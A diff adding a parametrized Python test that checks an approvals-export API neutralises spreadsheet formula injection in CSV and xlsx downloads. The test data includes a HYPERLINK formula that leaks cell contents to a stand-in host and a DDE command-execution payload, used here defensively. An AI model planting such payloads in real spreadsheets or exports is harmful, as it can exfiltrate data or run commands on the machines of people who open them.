@@ -6,6 +6,7 @@ and no table is touched by a filter."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -583,3 +584,41 @@ def test_the_scan_survives_a_vanishing_rate_against_a_huge_backlog(db_session: S
     }
     assert states[key].rate_per_hour > 0
     assert states[key].projected_completion is None
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_formula_in_a_feedback_reason_downloads_as_text(
+    client: TestClient, tokens: dict[str, str], reason: str
+) -> None:
+    """A decision's reason is typed by an approver and downloaded by any viewer:
+    in CSV it gets a leading quote, in xlsx it is a quoted string cell, never a formula."""
+    plan = chat(client, CHAT_ENDPOINTS[0], "札幌のエントリ1工程が遅延しています", "formula")
+    suggestion_id = plan.json()["suggestion"]["id"]
+    decided = client.post(
+        f"/api/v1/approvals/{suggestion_id}/action",
+        json={"action": "reject", "feedback_reason": reason},
+        headers=auth(tokens["approver"]),
+    )
+    assert decided.status_code == 200, decided.text
+    viewer = auth(tokens["viewer"])
+    csv_text = client.get("/api/v1/exports/approvals", headers=viewer).content.decode("utf-8-sig")
+    records = list(csv.reader(io.StringIO(csv_text, newline="")))
+    header = records[0]
+    mine = next(r for r in records[1:] if r[header.index("suggestion_id")] == suggestion_id)
+    stored = mine[header.index("feedback_reason")]
+    assert stored == "'" + reason
+    response = client.get("/api/v1/exports/approvals", params={"format": "xlsx"}, headers=viewer)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = next(r for r in sheet.iter_rows() if r[1].value == suggestion_id)
+    cell = cells[header.index("feedback_reason")]
+    assert (cell.data_type, cell.value) == ("s", "'" + reason.replace("\r", "\n"))
